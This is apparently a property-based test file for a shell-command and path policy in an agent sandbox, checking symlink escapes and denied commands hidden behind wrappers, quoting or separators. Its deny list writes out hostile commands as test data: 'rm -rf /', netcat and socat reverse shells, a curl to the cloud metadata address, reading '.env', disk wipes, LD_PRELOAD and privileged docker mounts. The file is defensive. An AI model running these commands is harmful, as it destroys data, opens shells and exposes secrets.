import { lstatSync, mkdirSync, mkdtempSync, readlinkSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHost, SAFE_PATH, type PolicyHost } from './host.js';
import { createPolicy, type Policy } from './kernel.js';
import { canonicalPath, decidePath, isInside, type PathContext, type PathOp } from './paths.js';
import { builtinProfile } from './profiles.js';

/**
 * Property-based tests of issue 2: no generated path escapes the roots, no
 * generated command line smuggles a denied command past the checks, and dangerous
 * text inside a quoted argument stays text.
 */

const RUNS = { numRuns: 600, seed: 20250601 } as const;

let base: string;
let workspace: string;
let stubBin: string;
let host: PolicyHost;
let policy: Policy;

/** Programs the generated lines use, stubbed ahead of the real search path so the result is the same on every machine. */
const STUBS = [
  'sudo', 'su', 'doas', 'rm', 'bash', 'sh', 'python3', 'perl', 'node', 'curl', 'nc', 'mkfs.ext4', 'dd', 'shutdown', 'chmod',
  'kill', 'find', 'cat', 'socat', 'systemctl', 'env', 'timeout', 'nice', 'nohup', 'stdbuf', 'setsid', 'xargs', 'time', 'watch',
  'ls', 'git', 'echo', 'grep', 'pwd', 'true', 'wc', 'sort', 'awk', 'sed', 'tar', 'rg', 'docker',
];

beforeAll(async () => {
  base = realpathSync(mkdtempSync(path.join(tmpdir(), 'ironcode-props-')));
  workspace = path.join(base, 'ws');
  for (const dir of ['ws/a/b', 'ws/c', 'ws_evil', 'outside/d']) mkdirSync(path.join(base, dir), { recursive: true });
  for (const file of ['ws/f', 'ws/a/f', 'ws/a/b/f', 'ws/.env', 'ws_evil/f', 'outside/f', 'outside/d/f']) writeFileSync(path.join(base, file), 'x\n');
  const links: Record<string, string> = {
    'ws/in-dir': 'a/b',
    'ws/in-abs': path.join(workspace, 'c'),
    'ws/in-file': 'a/f',
    'ws/out-dir': path.join(base, 'outside'),
    'ws/out-file': '../outside/f',
    'ws/up': '..',
    'ws/a/back': '../..',
    'ws/a/b/home': '../../..',
    'ws/evil': '../ws_evil',
    'ws/etc': '/etc',
    'ws/dangling-out': '../outside/created',
    'ws/dangling-in': 'c/created',
    'ws/dangling-dir': '../outside/missing',
    'ws/chain': 'dangling-out',
    'ws/loop': 'loop',
    'outside/back-in': path.join(workspace, 'a'),
  };
  for (const [link, target] of Object.entries(links)) symlinkSync(target, path.join(base, link));

  stubBin = mkdtempSync(path.join(tmpdir(), 'ironcode-props-bin-'));
  for (const name of STUBS) writeFileSync(path.join(stubBin, name), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  host = { ...createHost([stubBin, ...SAFE_PATH]), resolve: async () => ['93.184.215.14'] };
  policy = await createPolicy({ profile: builtinProfile('standard'), roots: [workspace], host });
});

afterAll(() => {
  rmSync(base, { recursive: true, force: true });
  rmSync(stubBin, { recursive: true, force: true });
});

// ---------------------------------------------------------------------------
// (a) paths

/**
 * Where the kernel would end up, walked component by component with lstat and
 * readlink (independently of the policy's realpath-based resolution): links are
 * followed, dangling ones too, since creating the file creates the target; once a
 * component is missing the rest is appended. Null when the operation would fail
 * before touching anything (`..` or a further component under a missing
 * directory or a file, a link loop).
 */
function kernelResolve(raw: string, cwd: string): string | null {
  const pending = (raw.startsWith('/') ? raw : `${cwd}/${raw}`).split('/');
  let current = '/';
  let missing: string[] | null = null;
  let links = 0;
  while (pending.length > 0) {
    const component = pending.shift()!;
    if (component === '' || component === '.') continue;
    if (missing !== null) {
      if (component === '..') return null;
      missing.push(component);
      continue;
    }
    if (component === '..') {
      current = path.posix.dirname(current);
      continue;
    }
    const next = path.posix.join(current, component);
    let stat;
    try {
      stat = lstatSync(next);
    } catch {
      missing = [next];
      continue;
    }
    if (stat.isSymbolicLink()) {
      if (++links > 40) return null;
      const target = readlinkSync(next);
      if (target.startsWith('/')) current = '/';
      pending.unshift(...target.split('/'));
      continue;
    }
    if (!stat.isDirectory() && pending.some((c) => c !== '' && c !== '.')) return null;
    current = next;
  }
  return missing === null ? current : path.posix.join(...missing);
}

/**
 * The brief's oracle: realpath of the nearest existing ancestor (as written, so a
 * `..` after a link climbs from the link's target), plus the rest; null when the
 * rest climbs out of a directory that does not exist.
 */
function nearestExistingRealpath(raw: string, cwd: string): string | null {
  const components = (raw.startsWith('/') ? raw : `${cwd}/${raw}`).split('/');
  for (let keep = components.length; keep >= 1; keep--) {
    let real: string;
    try {
      real = realpathSync.native(components.slice(0, keep).join('/') || '/');
    } catch {
      continue;
    }
    const rest = components.slice(keep).filter((c) => c !== '' && c !== '.');
    return rest.includes('..') ? null : path.posix.join(real, ...rest);
  }
  return null;
}

const SEGMENTS = [
  '..', '..', '.', '', 'a', 'b', 'c', 'f', 'new', 'in-dir', 'in-abs', 'in-file', 'out-dir', 'out-file', 'up', 'back', 'home',
  'evil', 'etc', 'passwd', 'dangling-out', 'dangling-in', 'dangling-dir', 'chain', 'loop', 'ws', 'ws_evil', 'outside',
  'back-in', 'd', '%2e%2e', '..%2f', '%252e', '~', '.env',
];
const PREFIXES = () => ['', '', '', '/', `${base}/`, `${workspace}/`, `${base}/ws_evil/`, `${base}/outside/`, '/tmp/', '~/', './'];

const pathArb = () =>
  fc.record({
    prefix: fc.constantFrom(...PREFIXES()),
    segments: fc.array(fc.constantFrom(...SEGMENTS), { minLength: 1, maxLength: 8 }),
    trailingSlash: fc.boolean(),
    op: fc.constantFrom<PathOp>('read', 'write', 'list', 'delete'),
    cwd: fc.constantFrom('', 'a', 'a/b'),
  });

describe('(a) no allowed path escapes the roots', () => {
  it('every path decidePath allows resolves inside the workspace, by either independent oracle', () => {
    let allowed = 0;
    fc.assert(
      fc.property(pathArb(), ({ prefix, segments, trailingSlash, op, cwd }) => {
        const raw = prefix + segments.join('/') + (trailingSlash ? '/' : '');
        const dir = path.join(workspace, cwd);
        const ctx: PathContext = { roots: [workspace], cwd: dir, host };
        const decision = decidePath(op, raw, ctx);
        if (!decision.allowed) return true;
        allowed++;
        const harmless = (p: string | null) => p === '/dev/null' && op !== 'delete';
        const walked = kernelResolve(raw, dir);
        const nearest = nearestExistingRealpath(raw, dir);
        expect(walked === null || isInside(walked, workspace) || harmless(walked), `${raw} → ${walked}`).toBe(true);
        expect(nearest === null || isInside(nearest, workspace) || harmless(nearest), `${raw} → ${nearest}`).toBe(true);
        return true;
      }),
      RUNS,
    );
    // the generator must reach allowed paths, or the property says nothing
    expect(allowed).toBeGreaterThan(50);
  });

  it('the canonical path is where the kernel would end up', () => {
    fc.assert(
      fc.property(pathArb(), ({ prefix, segments, trailingSlash, cwd }) => {
        const raw = prefix + segments.join('/') + (trailingSlash ? '/' : '');
        const dir = path.join(workspace, cwd);
        const canonical = canonicalPath(raw, { roots: [workspace], cwd: dir, host });
        const walked = kernelResolve(raw, dir);
        if (canonical.ok && walked !== null) expect(canonical.path, raw).toBe(walked);
        return true;
      }),
      RUNS,
    );
  });
});

// ---------------------------------------------------------------------------
// (b) and (c) command lines

/** Denied commands, each judged alone first to learn the rule that refuses it. */
const DENIED_CORES: readonly (readonly string[])[] = [
  ['sudo', 'id'],
  ['su', '-'],
  ['doas', 'sh'],
  ['rm', '-rf', '/'],
  ['bash', '-c', 'x'],
  ['sh', '-xc', 'x'],
  ['python3', '-c', 'x'],
  ['perl', '-lne', 'print'],
  ['node', '--eval=1'],
  ['curl', 'http://169.254.169.254/'],
  ['nc', '-e', '/bin/sh', 'h', '1'],
  ['socat', 'TCP:h:1', 'EXEC:sh'],
  ['mkfs.ext4', '/dev/sda'],
  ['dd', 'if=f', 'of=/dev/sda'],
  ['shutdown', 'now'],
  ['systemctl', 'stop', 'x'],
  ['chmod', 'u+s', 'f'],
  ['kill', '-9', '1'],
  ['find', '.', '-delete'],
  ['cat', '.env'],
  ['cat', '/dev/tcp/1.2.3.4/80'],
  ['env', 'LD_PRELOAD=x.so', 'ls'],
  ['eval', 'ls'],
  ['awk', 'BEGIN { system("id") }'],
  ['sed', 's/a/id/e', 'f'],
  ['find', '.', '-exec', 'id', ';'],
  ['tar', '--to-command=id', '-xf', 'a.tar'],
  ['python3', '-m', 'timeit', "__import__('os').system('id')"],
  ['git', '-c', 'core.pager=sh -c id', 'log'],
  ['rg', '--pre', 'sh', 'x'],
  ['docker', 'run', '--privileged', 'alpine'],
  ['docker', 'run', '-v', '/:/host', 'alpine'],
];
const CONTROL = ['ls', '-la'];

const WRAPPERS: readonly (readonly string[])[] = [
  ['env'], ['env', '-i'], ['env', 'A=1'], ['timeout', '5'], ['timeout', '-s', 'KILL', '5'], ['nice'], ['nice', '-n', '5'],
  ['nohup'], ['stdbuf', '-o0'], ['setsid'], ['xargs'], ['xargs', '-n1'], ['xargs', '-I{}'], ['time'], ['watch', '-x'],
];
const CONTEXT: readonly (readonly string[])[] = [['ls'], ['ls', '-la'], ['git', 'status'], ['echo', 'hi'], ['cat', 'f'], ['grep', '-n', 'x', 'f'], ['pwd'], ['true'], ['wc', '-l', 'f'], ['sort', 'f']];

type Style = 'plain' | 'single' | 'double' | 'backslash' | 'ansi' | 'mixed';
interface Quoting {
  style: Style;
  mask: boolean[];
  split: number;
  second: Exclude<Style, 'mixed'>;
}

const quotingArb: fc.Arbitrary<Quoting> = fc.record({
  style: fc.constantFrom<Style>('plain', 'plain', 'single', 'double', 'backslash', 'ansi', 'mixed'),
  mask: fc.array(fc.boolean(), { minLength: 24, maxLength: 24 }),
  split: fc.nat(),
  second: fc.constantFrom<Exclude<Style, 'mixed'>>('plain', 'single', 'double', 'backslash', 'ansi'),
});

/** Characters that stand for themselves outside quotes. */
const PLAIN = /^[A-Za-z0-9_.,:/=@%+-]$/;

/** One way the shell lets a word be written; every one means the same word. */
function quote(word: string, q: Quoting): string {
  const bit = (i: number) => q.mask[i % q.mask.length]!;
  const hex = (ch: string) => `\\x${ch.charCodeAt(0).toString(16).padStart(2, '0')}`;
  switch (q.style) {
    case 'plain':
      return [...word].every((ch) => PLAIN.test(ch)) ? word : quote(word, { ...q, style: 'single' });
    case 'single':
      return `'${word.replaceAll("'", `'\\''`)}'`;
    case 'double':
      return `"${word.replace(/[\\"$`]/g, '\\$&')}"`;
    case 'backslash':
      return [...word].map((ch, i) => (bit(i) || i === 0 || !PLAIN.test(ch) ? `\\${ch}` : ch)).join('');
    case 'ansi':
      return `$'${[...word].map((ch, i) => (bit(i) || i === 0 || ch === "'" || ch === '\\' ? hex(ch) : ch)).join('')}'`;
    case 'mixed': {
      if (word.length < 2) return quote(word, { ...q, style: q.second });
      const at = 1 + (q.split % (word.length - 1));
      return quote(word.slice(0, at), { ...q, style: 'single' }) + quote(word.slice(at), { ...q, style: q.second });
    }
  }
}

const GAPS = [' ', '  ', '\t', ' \\\n', ' \\\n\t'];
/**
 * Three spellings are left out because tree-sitter-bash misreads them and the kernel
 * refuses them as unsupported (safe, but not what the shell means; see the "grammar
 * limitations" rows of commands.test.ts): a line break directly followed by a
 * backslash (`ls\n\\ls`), a line break after `|`, and a line break in a line with a
 * pipeline of three or more commands and `&&`/`||` (`a | b | c\nd && e`). `render`
 * puts a blank or a `;` before the line break where needed.
 */
const SEPARATORS = [';', ' ; ', '; ', ' && ', '&&', ' || ', '||', ' | ', '|', '\n', ' ;\n', '\n\n', ';\n\t'];

const lineArb = fc.record({
  before: fc.array(fc.constantFrom(...CONTEXT), { maxLength: 3 }),
  after: fc.array(fc.constantFrom(...CONTEXT), { maxLength: 3 }),
  wrappers: fc.array(fc.constantFrom(...WRAPPERS), { maxLength: 4 }),
  core: fc.constantFrom(...DENIED_CORES),
  quotings: fc.array(quotingArb, { minLength: 48, maxLength: 48 }),
  gaps: fc.array(fc.constantFrom(...GAPS), { minLength: 48, maxLength: 48 }),
  separators: fc.array(fc.constantFrom(...SEPARATORS), { minLength: 8, maxLength: 8 }),
  lead: fc.constantFrom('', ' ', '\n', '\t '),
  trail: fc.constantFrom('', ' ', '\n', ';'),
});

type LineSpec = typeof lineArb extends fc.Arbitrary<infer T> ? T : never;

/** The generated line, with `core` in the middle (the denied command, or the control). */
function render(spec: LineSpec, core: readonly string[]): string {
  let w = 0;
  const words = (argv: readonly string[]) => argv.map((word) => quote(word, spec.quotings[w++ % spec.quotings.length]!));
  const join = (parts: string[]) => parts.map((p, i) => (i === 0 ? p : spec.gaps[(w + i) % spec.gaps.length]! + p)).join('');
  const commands = [
    ...spec.before.map((c) => join(words(c))),
    join([...spec.wrappers.flatMap((wrapper) => words(wrapper)), ...words(core)]),
    ...spec.after.map((c) => join(words(c))),
  ];
  const separators = commands.map((_, i) => spec.separators[i % spec.separators.length]!).slice(1);
  const pipes = separators.filter((s) => s.includes('|') && !s.includes('||')).length;
  const listed = separators.some((s) => s.includes('&&') || s.includes('||'));
  const separate = (separator: string, command: string) => {
    let out = separator;
    if (pipes >= 2 && listed && out.startsWith('\n')) out = `;${out}`;
    if (out.endsWith('\n') && command.startsWith('\\')) out = `${out} `;
    return out;
  };
  const lead = spec.lead.endsWith('\n') ? `${spec.lead} ` : spec.lead;
  return lead + commands.map((c, i) => (i === 0 ? c : separate(separators[i - 1]!, c) + c)).join('') + spec.trail;
}

const aloneRules = new Map<string, string>();
async function ruleAlone(core: readonly string[]): Promise<string> {
  const key = JSON.stringify(core);
  let rule = aloneRules.get(key);
  if (rule === undefined) {
    const decision = await policy.decide({ kind: 'command', argv: [...core] });
    expect(decision.allowed, key).toBe(false);
    rule = decision.rule;
    aloneRules.set(key, rule);
  }
  return rule;
}

describe('(b) no generated line smuggles a denied command past the checks', () => {
  it('the same lines with an allowed command in place of the denied one are allowed (the generator is sound)', async () => {
    await fc.assert(
      fc.asyncProperty(lineArb, async (spec) => {
        const line = render(spec, CONTROL);
        const decision = await policy.decide({ kind: 'command', line });
        expect(decision.allowed, `${JSON.stringify(line)}: ${decision.rule}: ${decision.reason}`).toBe(true);
      }),
      RUNS,
    );
  });

  it('every line embedding a denied command is denied, by the rule that refuses the command alone', async () => {
    await fc.assert(
      fc.asyncProperty(lineArb, async (spec) => {
        const line = render(spec, spec.core);
        const expected = await ruleAlone(spec.core);
        const judgement = await policy.judgeCommand({ line });
        expect(judgement.decision.allowed, JSON.stringify(line)).toBe(false);
        expect(judgement.hits.map((h) => h.rule), JSON.stringify(line)).toContain(expected);
      }),
      RUNS,
    );
  });
});

describe('(c) dangerous text inside a quoted argument is just text', () => {
  const singleQuoted = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;
  const doubleQuoted = (text: string) => `"${text.replace(/[\\"$`]/g, '\\$&')}"`;

  it("echo '<denied line>' and grep -n \"<denied line>\" f are allowed and pass the text through unchanged", async () => {
    await fc.assert(
      fc.asyncProperty(lineArb, fc.boolean(), async (spec, useGrep) => {
        const text = render(spec, spec.core);
        const line = useGrep ? `grep -n ${doubleQuoted(text)} f` : `echo ${singleQuoted(text)}`;
        const judgement = await policy.judgeCommand({ line });
        expect(judgement.decision.allowed, `${JSON.stringify(line)}: ${judgement.decision.reason}`).toBe(true);
        const argv = judgement.script?.items[0]?.pipeline.stages[0]?.argv.slice(1);
        expect(argv).toEqual(useGrep ? ['-n', text, 'f'] : [text]);
      }),
      RUNS,
    );
  });
});

describe('(d) any input gets a decision, never an exception', () => {
  // Shell-flavoured noise: the characters the grammar and the quoting rules care about.
  const shellChar = fc.constantFrom(...[...' \t\n\\\'"$`|&;<>(){}[]*?!#~=%:,.-_/0123456789abcxyzUX'], '\0', 'é', '😀');
  const ansiEscape = fc
    .tuple(fc.constantFrom('\\U', '\\u', '\\x', '\\', '\\0', '\\c'), fc.stringMatching(/^[0-9a-fA-F]{0,9}$/))
    .map(([escape, digits]) => `$'${escape}${digits}'`);
  const fragment = fc.constantFrom('<<', '<<<', '2>&', '&>', '$((', '${', '\\\n', '|&', ';;');
  const noise = fc.array(fc.oneof(shellChar, ansiEscape, fragment), { maxLength: 40 }).map((a) => a.join(''));

  it('judges arbitrary lines (shell noise and any Unicode) without throwing', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(noise, fc.string({ unit: 'binary', maxLength: 60 })), async (line) => {
        const decision = await policy.decide({ kind: 'command', line });
        expect(typeof decision.allowed).toBe('boolean');
        expect(decision.rule).toMatch(/^[a-z]+\.[a-z0-9-]+$/);
      }),
      { ...RUNS, numRuns: 3000 },
    );
  });

  it('judges arbitrary argv and paths without throwing', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { minLength: 1, maxLength: 5 }), fc.string({ unit: 'binary', maxLength: 40 }), async (argv, p) => {
        const a = await policy.decide({ kind: 'command', argv });
        const b = await policy.decide({ kind: 'path', op: 'write', path: p });
        expect([typeof a.allowed, typeof b.allowed]).toEqual(['boolean', 'boolean']);
      }),
      { ...RUNS, numRuns: 1000 },
    );
  });
});
